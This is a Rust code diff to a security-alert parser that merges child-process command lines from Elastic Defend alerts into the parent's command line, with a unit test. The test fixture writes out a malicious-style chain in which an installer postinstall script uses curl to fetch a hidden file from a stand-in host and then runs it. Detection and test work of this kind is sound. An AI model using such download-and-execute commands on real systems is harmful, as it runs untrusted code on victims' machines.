@@ -1199,6 +1199,41 @@ pub fn from_json(doc: Json, position: &str) -> Result<Alert, BadAlert> {
         }
         ecs = inner;
     }
+    // Elastic Defend's behaviour alerts list what the process went on to start under
+    // `process.Ext.descendants`: their command lines follow its own, as branches.
+    let descendants: Vec<String> = ecs
+        .get("process")
+        .and_then(|p| p.get("Ext"))
+        .and_then(|x| x.get("descendants"))
+        .and_then(Json::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(|d| {
+            d.get("command_line")
+                .and_then(Json::as_str)
+                .map(str::to_owned)
+                .or_else(|| {
+                    let a: Vec<&str> = d
+                        .get("args")?
+                        .as_array()?
+                        .iter()
+                        .filter_map(Json::as_str)
+                        .collect();
+                    (!a.is_empty()).then(|| a.join(" "))
+                })
+        })
+        .collect();
+    if !descendants.is_empty()
+        && let Some(own) = ecs
+            .get("process")
+            .and_then(|p| p.get("command_line"))
+            .and_then(Json::as_str)
+            .filter(|c| !c.contains('\n'))
+        && let Some(all) = edr::with_branches(Some(own), descendants.iter().map(String::as_str))
+        && let Some(Json::Object(p)) = ecs.get_mut("process")
+    {
+        p.insert("command_line".into(), Json::String(all));
+    }
     let has_substance = [
         "process",
         "powershell",
@@ -8108,5 +8143,14 @@ mod tests {
         let a = from_json(jp, "x").unwrap();
         assert!(get(&a, "process.command_line").contains("with hidden answer"));
         assert_eq!(get(&a, "process.parent.name"), "H");
+        // Elastic Defend: `process.Ext.descendants` follow the process's command as branches.
+        let el = json!({"event": {"kind": "signal"}, "host": {"name": "m"}, "process": {"name": "bash",
+            "command_line": "/bin/bash /tmp/PKInstallSandbox.x/Scripts/p/postinstall",
+            "Ext": {"descendants": [{"command_line": "curl -sL https://e.example/h -o /Users/Shared/.h"}, {"args": ["/Users/Shared/.h", "-d"]}]}}});
+        let a = from_json(el, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "/bin/bash /tmp/PKInstallSandbox.x/Scripts/p/postinstall\ncurl -sL https://e.example/h -o /Users/Shared/.h\n/Users/Shared/.h -d"
+        );
     }
 }
